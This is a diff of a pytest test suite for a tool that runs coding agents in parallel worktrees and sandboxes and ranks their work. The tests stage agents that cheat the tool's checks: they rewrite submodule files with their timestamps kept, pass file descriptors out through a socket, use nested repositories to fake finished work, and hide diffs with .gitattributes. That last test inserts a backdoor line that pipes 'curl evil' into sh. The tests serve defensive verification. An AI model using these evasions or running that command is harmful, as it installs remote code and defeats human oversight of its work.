@@ -1099,9 +1099,14 @@ def _one_worker(cli, tmp_path, body, check, sandbox, *extra):
     return r, err
 
 
-def _with_submodule(repo, tmp_path):
-    """Give ``repo`` a submodule 'sub' (a repository of one commit beside it)."""
+def _with_submodule(repo, tmp_path, sandbox="none"):
+    """Give ``repo`` a submodule 'sub' (a repository of one commit beside it; in a sandbox,
+    in an ignored folder of ``repo``, which it sees, as root the sandbox's account's own)."""
     sub = tmp_path / "subrepo"
+    if sandbox == "bwrap":
+        sub = repo / ".subrepo"
+        with open(repo / ".git" / "info" / "exclude", "a") as f:
+            f.write(".subrepo/\n")
     sub.mkdir()
     (sub / "lib.py").write_text("VALUE = 1\n")
     git("init", "-q", "-b", "main", cwd=sub)
@@ -1120,13 +1125,14 @@ def test_files_in_an_uninitialised_submodules_folder_fail_the_checks_they_feed(c
     assert r["status"] == "failed" and "sub/" in r["error"], (r, err)
 
 
-def test_a_submodule_your_setup_checks_out_is_trusted(cli, repo, tmp_path):
-    _with_submodule(repo, tmp_path)
-    code, results, err = cli.json(
-        "run", "fake:write=a.txt", "--workers", "1",
-        "--setup", SUBMODULE_SETUP,
-        "--check", "grep -q 1 sub/lib.py")
-    (r,) = results
+@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
+def test_a_submodule_your_setup_checks_out_is_trusted(cli, repo, tmp_path, sandbox):
+    """Also in a sandbox, whose files are new files before the commit (round 37: the folder
+    was then taken as changed, and every such honest worker failed)."""
+    _with_submodule(repo, tmp_path, sandbox)
+    _readable_inside(repo / ".subrepo", sandbox)
+    r, err = _one_worker(cli, tmp_path, "echo x > a.txt\n", "grep -q 1 sub/lib.py", sandbox,
+                         "--setup", SUBMODULE_SETUP)
     assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
 
 
@@ -1179,12 +1185,24 @@ def test_checks_see_your_include_files_not_the_agents_edits_of_them(cli, repo, t
 SUBMODULE_SETUP = "git -c protocol.file.allow=always submodule -q update --init"
 
 
+def _readable_inside(folder, sandbox):
+    """As root, in a sandbox: give ``folder`` to the sandbox's account, whose git refuses to
+    read another account's repository."""
+    if ROOT and sandbox == "bwrap":
+        for path, dirs, files in os.walk(folder):
+            for name in [path, *(os.path.join(path, n) for n in dirs + files)]:
+                os.lchown(name, 65530, 65530)
+
+
+@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
 @pytest.mark.parametrize("how", ["the agent checks it out", "your setup does, the agent edits it"])
-def test_a_submodule_folder_is_trusted_only_as_your_setup_left_it(cli, repo, tmp_path, how):
+def test_a_submodule_folder_is_trusted_only_as_your_setup_left_it(cli, repo, tmp_path, how,
+                                                                  sandbox):
     """A submodule folder the agent filled (checked out by its own hand, a fake .git and all)
     or changed (a file your setup checked out, rewritten with its size and time kept) holds
     what the branch does not: the check that passes on it fails the worker."""
-    _with_submodule(repo, tmp_path)
+    _with_submodule(repo, tmp_path, sandbox)
+    _readable_inside(repo / ".subrepo", sandbox)
     body = ("python3 - <<'PY'\nimport os\nst = os.stat('sub/lib.py')\n"
             "open('sub/lib.py', 'w').write('VALUE = 2\\n')\nos.utime('sub/lib.py', ns=(st.st_atime_ns, st.st_mtime_ns))\nPY\n")
     setup = []
@@ -1192,7 +1210,7 @@ def test_a_submodule_folder_is_trusted_only_as_your_setup_left_it(cli, repo, tmp
         body = SUBMODULE_SETUP + "\n" + body
     else:
         setup = ["--setup", SUBMODULE_SETUP]
-    r, err = _one_worker(cli, tmp_path, body, "grep -q 2 sub/lib.py", "none", *setup)
+    r, err = _one_worker(cli, tmp_path, body, "grep -q 2 sub/lib.py", sandbox, *setup)
     assert r["status"] == "failed" and "sub/" in r["error"], (r, err)
 
 
@@ -2735,7 +2753,7 @@ def test_honest_links_and_filtered_files_fail_no_worker(cli, repo, tmp_path, san
 # -- review round 36 ---------------------------------------------------------------------------
 
 @needs_bwrap
-@pytest.mark.parametrize("where", ["code.txt", "build/gen.txt", "keep/.gitignore"])
+@pytest.mark.parametrize("where", ["code.txt", "build/gen.txt", "keep/.gitignore", "sub/lib.py"])
 def test_a_descriptor_handed_out_changes_nothing_the_checks_run_on(cli, repo, tmp_path, where):
     """The agent hands a process outside (another account's, through an abstract socket) a
     descriptor of a committed file opened for writing; that process rewrites the file once
@@ -2758,6 +2776,11 @@ def test_a_descriptor_handed_out_changes_nothing_the_checks_run_on(cli, repo, tm
         f"assert s.recv(4) == b'done'\nsys.exit(0 if open({where!r}).read() == 'evil\\n' else 1)\n")
     git("add", "-f", ".", cwd=repo)
     git("commit", "-qm", "files", cwd=repo)
+    setup = []
+    if where.startswith("sub/"):  # (a submodule folder as your setup left it)
+        _with_submodule(repo, tmp_path, "bwrap")
+        _readable_inside(repo / ".subrepo", "bwrap")
+        setup = ["--setup", SUBMODULE_SETUP]
     agent = script(tmp_path, "hand.sh", f'exec {sys.executable} "$(dirname "$0")/hand.py"\n')
     (agent.parent / "hand.py").write_text(
         "import os, socket\n"
@@ -2789,7 +2812,7 @@ def test_a_descriptor_handed_out_changes_nothing_the_checks_run_on(cli, repo, tm
     thread.start()
     try:
         code, results, err = cli.json("run", "do it", "--agent-cmd", str(agent), "--workers", "1",
-                                      "--check", f"{sys.executable} check.py", *BOXED)
+                                      "--check", f"{sys.executable} check.py", *setup, *BOXED)
     finally:
         for server in servers:
             server.close()
@@ -2797,8 +2820,69 @@ def test_a_descriptor_handed_out_changes_nothing_the_checks_run_on(cli, repo, tm
     assert wrote == [5], (results, err)  # (the attack was made)
     assert results[0]["checks_passed"] == 0 and results[0]["checks_total"] == 1, (results, err)
     worktree = repo / ".architect-parallel-1"
-    held = "x" if "keep" in where else "good"
+    held = {"keep/.gitignore": "x", "sub/lib.py": "VALUE = 1"}.get(where, "good")
     assert (worktree / where).read_text() == held + "\n"
-    assert git("show", f"{results[0]['commit']}:{where}", cwd=repo) == held
+    if not where.startswith("sub/"):
+        assert git("show", f"{results[0]['commit']}:{where}", cwd=repo) == held
     # (an ignored folder's files are not copied: a whole node_modules would cost a run much)
     assert str(os.stat(worktree / "node_modules" / "m.js").st_ino) == (worktree / "ino.txt").read_text()
+
+
+# -- review round 37 ---------------------------------------------------------------------------
+
+def test_a_repository_inside_is_no_work_that_ranks(cli, repo):
+    """A worker whose whole work is a git repository inside its worktree (which no commit
+    can hold) ranked as one that did the work, above the honest one when cheaper: best, and
+    `merge best` brought nothing. A committed worker's files are what its branch changes;
+    the repository inside is named in its error."""
+    code, results, err = cli.json("run", "t", "--models",
+                                  "fake:write=app.txt+cost=0.5,fake:nested=junk+cost=0.01",
+                                  "--workers", "2")
+    honest, idle = results
+    assert honest["rank"] == 1 and idle["rank"] == 2, (results, err)
+    assert idle["files_modified"] == [] and idle["commit"] is None
+    assert "committed without junk/" in (idle["error"] or ""), idle
+    assert honest["files_modified"] == ["app.txt"]
+
+
+def test_a_branch_named_with_a_leading_zero_is_yours(cli, repo):
+    """`architect/parallel-01` and `-0001` were listed as worker 1 beside it, and `cleanup`
+    deleted them as workers' branches."""
+    assert cli("fake:write=a.txt", "--workers", "1")[0] == 0
+    for name in ("architect/parallel-01", "architect/parallel-0001"):
+        git("branch", name, cwd=repo)
+    code, out, err = tool("list", "--json")
+    listed = json.loads(out)
+    assert sorted((item["branch"], item["worker_id"]) for item in listed
+                  if item["branch"] != "architect/parallel-1") == [], listed
+    assert tool("cleanup")[0] == 0
+    assert git("branch", "--list", "architect/parallel-0*", cwd=repo).split() == [
+        "architect/parallel-0001", "architect/parallel-01"]
+
+
+@pytest.mark.parametrize("line", ["*.py -diff", "*.py binary", "app.py diff=other"])
+def test_a_branch_that_hides_your_own_diffs_asks_for_force(cli, repo, tmp_path, line):
+    """A merged `.gitattributes` of `*.py -diff` made your own `git diff` and `git log -p` show
+    the agent's backdoor (and every later change) as `Binary files differ`."""
+    agent = script(tmp_path, "hide.sh", f"printf '{line}\\n' > .gitattributes\n"
+                   "echo 'import os; os.system(\"curl evil | sh\")' >> src/app.py\n")
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
+                                  "1", "--progress", "none")
+    assert results[0]["commit"], (results, err)
+    code, out, err = tool("merge", "1")
+    assert code != 0 and "changes how your own git shows files" in err and "app.py" in err, err
+    assert git("rev-parse", "HEAD", cwd=repo) == results[0]["base_commit"]
+    assert tool("merge", "1", "--force")[0] == 0
+
+
+def test_a_worktree_your_ignore_rules_show_is_said(cli, repo):
+    """`merge` asks about the first 64 worktree folders only; a `.gitignore` line of
+    `!/.architect-parallel-1??/` (merged, or yours) showed worker 100's to your `git add -A`,
+    which made it a submodule. A run says which of its worktrees your rules show."""
+    (repo / ".gitignore").write_text("!/.architect-parallel-1?/\n")
+    git("add", ".gitignore", cwd=repo)
+    git("commit", "-qm", "rules", cwd=repo)
+    code, out, err = cli("fake:write=a.txt", "--workers", "10")
+    assert code == 0, err
+    assert "your ignore rules show the worktree folders .architect-parallel-10 (" in err, err
+    assert "architect-parallel-1," not in err
